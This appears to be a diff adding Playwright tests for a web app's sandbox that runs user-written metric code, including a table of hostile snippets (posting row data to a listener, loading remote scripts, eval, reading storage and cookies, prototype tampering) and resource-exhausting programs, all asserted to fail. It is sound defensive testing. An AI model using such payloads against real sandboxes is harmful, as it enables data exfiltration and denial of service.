@@ -1,0 +1,176 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Locator } from '@playwright/test';
+import { expect, test, type Playground } from './playground.ts';
+
+test.describe.configure({ timeout: 120_000 });
+
+async function openMetrics({ page }: Playground): Promise<Locator> {
+  await page.getByRole('button', { name: 'Metrics', exact: true }).click();
+  return page.getByRole('dialog', { name: 'Metrics' });
+}
+
+async function begin(app: Playground, sample: string): Promise<Locator> {
+  const drawer = await openMetrics(app);
+  await app.choose('New metric', sample);
+  return drawer.getByRole('form', { name: 'Your metric' });
+}
+
+test('a metric of one’s own is tried, saved, changed and scored like any other', async ({
+  app,
+  page,
+}) => {
+  const form = await begin(app, 'Word count');
+  const result = form.getByRole('status');
+  await expect(result).toHaveText(/^First row \d+$/);
+  const code = form.getByRole('textbox', { name: 'Code' });
+
+  await code.fill('function word_count(row) {\n  return row.response.size.x;\n}');
+  await expect(result).toContainText('TypeError');
+  await expect(form).toContainText('Line 2');
+  await code.fill('function word_count(row: Row) {\n  return 1;\n}');
+  await expect(result).toContainText('types are not understood');
+  await code.fill('const a = 1;');
+  await expect(result).toContainText('No function is declared');
+  await code.fill('row => NaN');
+  await expect(result).toContainText('Gave NaN');
+  await code.fill('row => new Promise(() => {})');
+  await expect(result).toContainText('promise did not settle');
+
+  await code.fill(
+    'function word_count(row) {\n  if (row.id === "hd-02") throw new Error("no words");\n' +
+      '  return { word_count: row.predicted_trajectory === null ? null : 2, kind: "x" };\n}',
+  );
+  await expect(result).toHaveText('First row 2 · kind: x');
+  await form.getByRole('button', { name: 'Save' }).click();
+  await page.keyboard.press('Escape');
+  await app.expectMeans({ word_count: '2.00' });
+  await expect(app.tile('word_count')).toHaveAccessibleName(/, 1 errors$/);
+  await expect(app.grid.getByRole('columnheader', { name: /word_c/ })).toBeVisible();
+  await app.row('hd-02').click();
+  await app.panel.getByRole('button', { name: 'Open' }).click();
+  await expect(app.drawer).toContainText('Line 2: Error: no words');
+  await page.keyboard.press('Escape');
+
+  // kept with the run: there after a reload, and scored anew only when it changes
+  await expect(page.getByText('Saved locally')).toBeVisible();
+  await page.reload();
+  await app.expectMeans({ word_count: '2.00' });
+  const drawer = await openMetrics(app);
+  await drawer.getByRole('checkbox', { name: 'word_count' }).uncheck();
+  await page.keyboard.press('Escape');
+  await expect(app.tile('word_count')).toBeHidden();
+});
+
+/** Counts what reaches a host that is not the page's own. */
+async function startListener(): Promise<{ url: string; hits: string[]; stop: () => void }> {
+  const hits: string[] = [];
+  const server = createServer((request, response) => {
+    hits.push(request.url ?? '');
+    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('reached');
+  });
+  server.on('upgrade', (request, socket) => {
+    hits.push(request.url ?? '');
+    socket.destroy();
+  });
+  await new Promise<void>((onListening) => server.listen(0, '127.0.0.1', onListening));
+  const { port } = server.address() as AddressInfo;
+  return { url: `http://127.0.0.1:${String(port)}/`, hits, stop: () => server.close() };
+}
+
+/** Bodies of an async function that give 1 when they get what they must not. */
+const ATTACKS: Readonly<Record<string, string>> = {
+  fetch: `await fetch(url + 'fetch'); return 1;`,
+  'fetch no-cors': `await fetch(url + 'no-cors', { mode: 'no-cors', method: 'POST', body: JSON.stringify(row) }); return 1;`,
+  'fetch keepalive': `await fetch(url + 'keepalive', { keepalive: true, method: 'POST', body: 'x' }); return 1;`,
+  xhr: `return new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open('GET', url + 'xhr'); x.onload = () => done(1); x.onerror = fail; x.send(); });`,
+  'synchronous xhr': `const x = new XMLHttpRequest(); x.open('GET', url + 'sync', false); x.send(); return 1;`,
+  websocket: `return new Promise((done, fail) => { const s = new WebSocket(url.replace('http', 'ws')); s.onopen = () => done(1); s.onerror = fail; });`,
+  'event source': `return new Promise((done, fail) => { const s = new EventSource(url + 'events'); s.onopen = () => done(1); s.onerror = fail; });`,
+  webtransport: `await new WebTransport(url.replace('http:', 'https:')).ready; return 1;`,
+  importScripts: `importScripts(url + 'script.js'); return 1;`,
+  'importScripts of a blob': `importScripts(URL.createObjectURL(new Blob(['self.got = 1']))); return self.got;`,
+  'import()': `await import(url + 'module.js'); return 1;`,
+  'import() of a data url': `return (await import('data:text/javascript,export default 1')).default;`,
+  'nested worker': `return new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + url + "nested').then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = (e) => done(e.data); w.onerror = fail; });`,
+  'worker by url': `return new Promise((done, fail) => { const w = new Worker(url + 'worker.js'); w.onmessage = () => done(1); w.onerror = fail; });`,
+  eval: `return eval('1');`,
+  'new Function': `return new Function('return 1')();`,
+  'setTimeout with text': `self.got = 0; setTimeout('self.got = 1', 0); await new Promise((r) => setTimeout(r, 30)); return self.got;`,
+  wasm: `await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return 1;`,
+  font: `await new FontFace('x', 'url(' + url + 'font)').load(); return 1;`,
+  indexedDB: `return new Promise((done, fail) => { const r = indexedDB.open('trajectory-playground'); r.onsuccess = () => done(1); r.onerror = fail; });`,
+  'list of databases': `return (await indexedDB.databases()).length > 0 ? 1 : 0;`,
+  caches: `return (await caches.keys()).length >= 0 ? 1 : 0;`,
+  'file system': `await navigator.storage.getDirectory(); return 1;`,
+  localStorage: `return localStorage.getItem('trajectory-playground:trusted-code') === null ? 0 : 1;`,
+  cookies: `return (await cookieStore.getAll()).length >= 0 ? 1 : 0;`,
+  'broadcast to the page': `new BroadcastChannel('trajectory-playground').postMessage(url); return typeof document === 'undefined' ? 0 : 1;`,
+  'parent, top and opener': `return [self.parent, self.top, self.opener].some((w) => w !== undefined) ? 1 : 0;`,
+  'navigation of the worker': `try { location.href = url + 'navigate'; } catch {} try { location.assign(url + 'assign'); } catch {} await new Promise((r) => setTimeout(r, 30)); return 0;`,
+  'message to the frame': `self.postMessage({ ready: true }); self.postMessage({ nonce: '', results: [1] }); return 0;`,
+  'prototypes tampered with': `Array.prototype.map = () => [1]; Object.prototype.nonce = 'forged'; JSON.parse = () => [1]; Object.entries = () => [['attack', 1]]; MessagePort.prototype.postMessage = () => undefined; Promise.all = () => 1; return 0;`,
+  'the sandbox’s own function': `try { __score(() => 1); } catch {} return 0;`,
+  'rows of others': `return Object.keys(row).some((key) => /run|key|token/i.test(key)) || Array.isArray(row) ? 1 : 0;`,
+};
+
+/** Programs that end badly, and what is said of them. */
+const BROKEN: Readonly<Record<string, readonly [code: string, said: RegExp]>> = {
+  'an endless loop': ['() => { for (;;); }', /no result within 1 s/],
+  'an endless loop at the start': ['for (;;);\nfunction attack() {}', /did not come to its end/],
+  'a closed worker': ['() => { close(); for (;;); }', /no result within 1 s/],
+  'a memory bomb': [
+    '() => { const all = []; for (;;) all.push(new Float64Array(1e6).fill(1)); }',
+    /no result within 1 s|RangeError/,
+  ],
+  'endless recursion': ['function attack() { return attack() + 1; }', /RangeError/],
+  'a function as result': ['() => () => 1', /a function instead of/],
+  'a symbol as result': ['() => Symbol("x")', /a symbol instead of/],
+  'a proxy that throws': [
+    '() => new Proxy({}, { ownKeys() { throw new Error("trap"); } })',
+    /Error: trap/,
+  ],
+  'an endless text thrown': ['() => { throw "x".repeat(1e7); }', /^First row Threw x{50}/],
+  'forged results': ['() => ({ attack: { valueOf: () => 1 } })', /an object instead of/],
+};
+
+test('hostile programs reach nothing and hurt nobody', async ({ app, page, allowConsole }) => {
+  allowConsole(/./);
+  const listener = await startListener();
+  const form = await begin(app, 'Empty');
+  const code = form.getByRole('textbox', { name: 'Code' });
+  const result = form.getByRole('status');
+  await form.getByRole('textbox', { name: 'Name' }).fill('attack');
+  const successes: string[] = [];
+  for (const [index, [name, body]] of Object.entries(ATTACKS).entries()) {
+    await code.fill(
+      `const url = ${JSON.stringify(listener.url)};\nasync function attack(row) {\n` +
+        `  const get = async () => { ${body} };\n  let got = 0;\n` +
+        `  try { got = await get(); } catch { got = 0; }\n` +
+        `  return { attack: got ?? 0, program: ${String(index)} };\n}`,
+    );
+    // one that tampers with the sandbox may get no answer through at all
+    await expect(result, name).toHaveText(
+      new RegExp(`program: ${String(index)}$|no result within|no result\\.|without “attack”`),
+      { timeout: 15_000 },
+    );
+    if (/^First row 1\b/.test((await result.textContent()) ?? '')) successes.push(name);
+  }
+  for (const [name, [program, said]] of Object.entries(BROKEN)) {
+    await code.fill(program);
+    await expect(result, name).toHaveText(said, { timeout: 20_000 });
+  }
+  // the next one works, and so does the page
+  await code.fill('(row) => row.predicted_trajectory.length');
+  await expect(result).toHaveText(/^First row \d+$/);
+  await page.keyboard.press('Escape');
+  await app.expectMeans({ Precision: '0.69' });
+  await expect(page.locator('iframe')).toHaveCount(0);
+  expect(successes).toEqual([]);
+  expect(listener.hits).toEqual([]);
+  listener.stop();
+  const count = Object.keys(ATTACKS).length + Object.keys(BROKEN).length;
+  console.log(
+    `hostile programs ${String(count)}, listener hits ${String(listener.hits.length)}, got through ${String(successes.length)}`,
+  );
+});
